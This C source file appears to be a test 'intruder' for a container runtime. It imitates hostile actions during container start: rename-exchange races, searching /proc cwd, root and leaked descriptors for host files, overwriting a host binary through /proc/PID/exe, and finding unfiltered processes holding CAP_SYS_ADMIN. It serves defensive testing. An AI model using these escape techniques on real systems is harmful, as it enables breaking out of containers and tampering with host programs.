/*
 * What hostile parties do while a container starts or is joined:
 *
 *   exchange A B    swaps two names, over and over, until its parent is gone
 *   search FILE     looks for FILE behind every descriptor, directory and root
 *                   of the other processes in /proc
 *   overwrite INODE takes hold of the program of another process if it is the
 *                   file of that number, and writes to it once it no longer
 *                   runs
 *
 *   rights          looks for a process that may do anything in the host's name
 *                   and is not kept from it by a filter
 *
 * The last three say "ready", then what they reached, and otherwise go on until
 * there is a file /stop.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE of linux/fs.h */

enum { DESCRIPTORS = 24 };

static int exchange(char **words)
{
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    puts("ready");
    fflush(stdout);
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1],
                    EXCHANGE) < 0) {
            perror("exchange");
            return 1;
        }
    }
}

static bool can_read(const char *path)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK);

    if (fd < 0)
        return false;
    printf("reached %s\n", path);
    close(fd);
    return true;
}

/* Tries every way from /proc/PID to the file. */
static bool search_process(const char *pid, char **words)
{
    static const char *const ways[] = {"cwd", "root"};
    char path[4096];

    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
        snprintf(path, sizeof(path), "/proc/%s/%s/%s", pid, ways[i], words[0]);
        if (can_read(path))
            return true;
    }
    for (int fd = 0; fd < DESCRIPTORS; fd++) {
        snprintf(path, sizeof(path), "/proc/%s/fd/%d/%s", pid, fd, words[0]);
        if (can_read(path))
            return true;
    }
    return false;
}

/* Any other program is not to come to harm: it may be one of the host's. */
static bool is_victim(int program, const char *inode)
{
    struct stat status;

    return fstat(program, &status) == 0 &&
           status.st_ino == strtoull(inode, NULL, 10);
}

static bool overwrite_process(const char *pid, char **words)
{
    char path[64];
    int program, writable;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    program = open(path, O_PATH);
    if (program < 0)
        return false;
    if (!is_victim(program, words[0])) {
        close(program);
        return false;
    }
    puts("holding");
    fflush(stdout);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
    do {
        writable = open(path, O_WRONLY);
    } while (writable < 0 && errno == ETXTBSY && access("/stop", F_OK) < 0);
    if (writable >= 0 && write(writable, "overwritten", 11) == 11)
        puts("overwritten");
    else
        printf("refused: %s\n", strerror(errno));
    return true;
}

/* CapEff of /proc/PID/status has CAP_SYS_ADMIN, and Seccomp is 0. */
static bool find_rights(const char *pid, char **words)
{
    unsigned long long effective = 0;
    char path[64], line[256];
    int filtered = 1;
    FILE *status;

    (void)words;
    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    status = fopen(path, "r");
    while (status != NULL && fgets(line, sizeof(line), status) != NULL) {
        (void)sscanf(line, "CapEff: %llx", &effective);
        (void)sscanf(line, "Seccomp: %d", &filtered);
    }
    if (status != NULL)
        fclose(status);
    if ((effective >> 21 & 1) == 0 || filtered != 0)
        return false;
    printf("reached %s\n", path);
    return true;
}

static int watch(bool (*attack)(const char *pid, char **words), char **words)
{
    const pid_t self = getpid();

    puts("ready");
    fflush(stdout);
    while (access("/stop", F_OK) < 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc != NULL && (entry = readdir(proc)) != NULL) {
            pid_t pid = atoi(entry->d_name);

            if (pid > 0 && pid != self && attack(entry->d_name, words))
                return 0;
        }
        closedir(proc);
    }
    puts("nothing");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "exchange") == 0)
        return exchange(argv + 2);
    if (argc == 3 && strcmp(argv[1], "search") == 0)
        return watch(search_process, argv + 2);
    if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
        return watch(overwrite_process, argv + 2);
    if (argc == 2 && strcmp(argv[1], "rights") == 0)
        return watch(find_rights, argv + 2);
    fputs("intruder: see its source\n", stderr);
    return 99;
}
